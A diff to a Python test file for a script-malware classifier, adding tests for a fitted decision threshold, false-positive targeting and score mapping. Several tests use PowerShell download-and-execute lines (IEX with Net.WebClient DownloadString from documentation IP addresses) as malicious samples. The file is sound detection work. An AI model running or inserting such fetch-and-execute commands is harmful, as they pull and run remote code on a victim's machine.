@@ -31,11 +31,15 @@ def test_scan_train_command_writes_a_model_and_card(tmp_path: Path) -> None:
         (ben / f"b{i}.ps1").write_text(f"param($Path{i})\nGet-ChildItem $Path{i} | Where-Object Length -gt {i}\n")
     model = tmp_path / "model"
     res = CliRunner().invoke(app, ["scan-train", "-l", "powershell", "--malicious", str(mal), "--benign", str(ben),
-                                   "--model", str(model), "--licences", "written for this test"])
+                                   "--model", str(model), "--licences", "written for this test",
+                                   "--target-fpr", "0.0"])
     assert res.exit_code == 0, res.output
     card = (model / "MODEL_CARD.md").read_text()
     assert "written for this test" in card and "powershell" in card
     clf = ScriptClassifier.load(model)
+    st = clf.meta["languages"]["powershell"]
+    assert st["target_fpr"] == 0.0 and 0.05 <= st["threshold"] <= 0.95 and st["chars"] is False
+    assert "threshold" in card
     v = Scanner(model=clf).scan_text("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')")
     assert any(r.source == "model" for r in v.reasons)
     assert clf.predict_proba_text("powershell", "Get-ChildItem C:\\ | Where-Object Length -gt 3") < 0.5
@@ -56,3 +60,60 @@ def test_javascript_model_separates_held_out_files() -> None:
     clf.fit("javascript", [t for t, _ in train], [y for _, y in train])
     p = clf.predict_proba("javascript", [t for t, _ in test])
     assert roc_auc_score(np.array([y for _, y in test]), p) > 0.9
+
+
+def _toy(n: int, seed: int) -> tuple[list[str], list[int]]:
+    """Hand-written PowerShell-like lines: downloaders vs file listings, with varied names."""
+    rng = random.Random(seed)
+    texts, labels = [], []
+    for i in range(n):
+        host = f"198.51.100.{rng.randrange(256)}"
+        texts.append(f"$c{i} = New-Object Net.WebClient; IEX $c{i}.DownloadString('http://{host}/{i}.ps1')")
+        labels.append(1)
+        texts.append(f"Get-ChildItem C:\\Logs\\{i} -Recurse | Where-Object Length -gt {rng.randrange(9999)}")
+        labels.append(0)
+    return texts, labels
+
+
+def test_to_score_is_monotone_and_puts_the_threshold_on_the_malicious_cut() -> None:
+    from phagocyte.analysers.classifier import to_score
+
+    p = np.array([0.01, 0.1, 0.3, 0.5, 0.9, 0.999])
+    s = to_score(p, 0.3)
+    assert np.all(np.diff(s) > 0)
+    assert abs(float(to_score(np.array([0.3]), 0.3)[0]) - 0.7) < 1e-6
+    assert abs(float(to_score(np.array([0.5]), 0.5)[0]) - 0.7) < 1e-6
+
+
+def test_threshold_is_fitted_inside_the_training_data_and_drives_the_score() -> None:
+    texts, labels = _toy(40, 1)
+    clf = ScriptClassifier()
+    stats = clf.fit("powershell", texts, labels, chars=True)
+    t = clf.threshold("powershell")
+    assert stats["threshold"] == round(t, 4) and 0.05 <= t <= 0.95
+    held, held_y = _toy(20, 2)
+    p = clf.predict_proba("powershell", held)
+    s = clf.score("powershell", held)
+    # the verdict's cut (0.7) on the score is the fitted threshold on the probability
+    assert ((s >= 0.7) == (p >= t)).all()
+    assert ((s >= 0.7) == np.array(held_y, dtype=bool)).mean() > 0.9
+
+
+def test_model_saved_without_a_threshold_falls_back_to_one_half() -> None:
+    texts, labels = _toy(10, 3)
+    clf = ScriptClassifier()
+    clf.fit("powershell", texts, labels, chars=False)
+    del clf.meta["languages"]["powershell"]["threshold"]
+    assert clf.threshold("powershell") == 0.5
+
+
+def test_choose_threshold_keeps_inner_false_positives_at_the_target() -> None:
+    from phagocyte.analysers.classifier import choose_threshold
+
+    texts, labels = _toy(60, 4)
+    # label noise: some listings marked malicious, so the threshold must move off the easy cut
+    y = np.array(labels)
+    y[1:40:8] = 1
+    t = choose_threshold(texts, y, chars=False, target_fpr=0.0)
+    assert 0.05 <= t <= 0.95
+    assert choose_threshold(texts[:6], np.array(labels[:6]), chars=False) == 0.5  # too small to split
